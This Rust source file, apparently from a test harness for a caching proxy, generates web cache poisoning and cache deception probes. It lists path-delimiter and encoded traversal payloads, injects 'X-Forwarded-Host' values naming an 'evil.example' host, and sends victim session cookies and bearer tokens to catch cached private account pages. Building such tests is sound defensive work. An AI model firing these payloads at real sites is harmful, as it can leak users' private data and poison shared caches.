//! Paths that a cache and an origin may read differently.

use super::{Maker, Probe, Route, Seen};
use crate::client::browsing;
use crate::origin::SECRET;

/// What may end a path for one and not for the other.
const DELIMITERS: [&str; 22] = [
    "/",
    ";",
    "%3b",
    "%2f",
    "%3f",
    "%23",
    "%00",
    "%0a",
    "%0d%0a",
    "%09",
    "%20",
    "%5c",
    "\\",
    "/.",
    "/./",
    "//",
    "/..;/",
    ".",
    "..",
    "%252f",
    "%25%32%66",
    "/%2e%2e/account/",
];
/// What a cache may keep by its name alone.
const EXTENSIONS: [&str; 7] = [".css", ".js", ".ico", ".png", ".woff2", ".pdf", ""];
/// From a page of everybody's to somebody's own.
const UPWARD: [&str; 24] = [
    "/launch/../account/",
    "/launch/./../account/",
    "/launch/x/../../account/",
    "/launch/..%2faccount/",
    "/launch/..%2Faccount/",
    "/launch/%2e%2e/account/",
    "/launch/%2e%2e%2faccount/",
    "/launch/.%2e/account/",
    "/launch/..%5caccount/",
    "/launch/..\\account/",
    "/launch\\..\\account/",
    "/launch/..;/account/",
    "/launch/..;x=y/account/",
    "/launch/%252e%252e/account/",
    "/launch/%252e%252e%252faccount/",
    "/launch/..%252faccount/",
    "/launch/..//account/",
    "/launch//../account/",
    "/launch/%00/../../account/",
    "/launch/..%00/account/",
    "/launch/.../../../account/",
    "/launch/..%c0%afaccount/",
    "/./account/",
    "//account/",
];
/// Ways to write the page's own path, with something that must not be seen on it.
const DISGUISED: [&str; 22] = [
    "/{}/..{path}",
    "/{}/%2e%2e{path}",
    "/{}/..;{path}",
    "/./{}/..{path}",
    "{path};{}",
    "{path};a={}",
    "{path}%3b{}",
    "{path}%3f{}",
    "{path}%23{}",
    "{path}%00{}",
    "{path}%0a{}",
    "{path}/{}/..",
    "{path}/{}/../",
    "{path}/{}/%2e%2e",
    "{path}/{}/..%2f",
    "{path}//{}/..",
    "{path}\\{}\\..",
    "{path}/.;{}",
    "{path}#{}",
    "{path}/%2e;{}",
    "/launch/{}/../..{path}",
    "/%2e/{}/../{path}",
];
/// How somebody is signed in.
const SIGNED_IN: [(&str, &str); 2] = [("Cookie", "session="), ("Authorization", "Bearer ")];

/// The page under another spelling, which the site reflects.
pub(super) fn poisoning(maker: &mut Maker, route: Route) {
    for written in DISGUISED {
        let target = maker.target(route);
        let path = written
            .replace("{path}", &target.path)
            .replace("{}", &target.canary);
        maker.poison(format!("path {written}"), &target, browsing(&path, ""));
    }
    for more in ["/", "//", "/.", "?", ".", "%20"] {
        let target = maker.target(route);
        let header = format!("X-Forwarded-Host: {}.evil.example\r\n", target.canary);
        let path = format!("{}{more}", target.path);
        maker.poison(
            format!("path that ends in {more:?}"),
            &target,
            browsing(&path, &header),
        );
    }
    let target = maker.target(route);
    let header = format!("X-Forwarded-Host: {}.evil.example\r\n", target.canary);
    let upper = target.path.to_uppercase();
    maker.poison(
        "path in upper case".to_owned(),
        &target,
        browsing(&upper, &header),
    );
}

/// Somebody who is signed in follows a link to what looks like anything; the one who made it looks there next.
pub(super) fn deception(maker: &mut Maker, route: Route) {
    let mut paths = Vec::new();
    match route {
        Route::Ruled => paths.extend(UPWARD.map(str::to_owned)),
        _ => {
            for delimiter in DELIMITERS {
                paths.extend(EXTENSIONS.map(|extension| format!("/account{delimiter}x{{}}{extension}")));
            }
        }
    }
    for path in paths {
        for (name, value) in SIGNED_IN {
            let number = maker.probes.len();
            let who = format!("victim{number:05}x");
            let path = match path.contains("{}") {
                true => path.replace("{}", &number.to_string()),
                false => format!("{path}x{number}.css"),
            };
            maker.probes.push(Probe {
                name: format!("account by {name} at {path}"),
                first: browsing(&path, &format!("{name}: {value}{who}\r\n")).into_bytes(),
                canary: format!("{SECRET}{who}"),
                then: vec![path.clone(), format!("{path}?x"), "/account".to_owned()],
                seen: Seen::Anything,
            });
        }
    }
}
